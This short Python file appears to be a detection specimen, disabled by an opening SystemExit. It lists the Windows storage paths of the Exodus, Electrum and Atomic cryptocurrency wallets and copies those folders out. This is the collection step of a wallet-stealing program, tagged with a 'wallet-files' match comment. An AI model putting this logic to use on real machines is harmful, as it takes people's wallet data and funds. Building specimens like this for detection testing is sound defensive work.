raise SystemExit("specimen: not to be run")
import os
import shutil

WALLETS = {
    "Exodus": os.path.join(os.environ["APPDATA"], "Exodus", "exodus.wallet"),
    "Electrum": os.path.join(os.environ["APPDATA"], "Electrum", "wallets"),
    "Atomic": os.path.join(os.environ["APPDATA"], "atomic", "Local Storage", "leveldb"),
}

def grab(out):
    for name, path in WALLETS.items():
        shutil.copytree(path, out)  # match: wallet-files
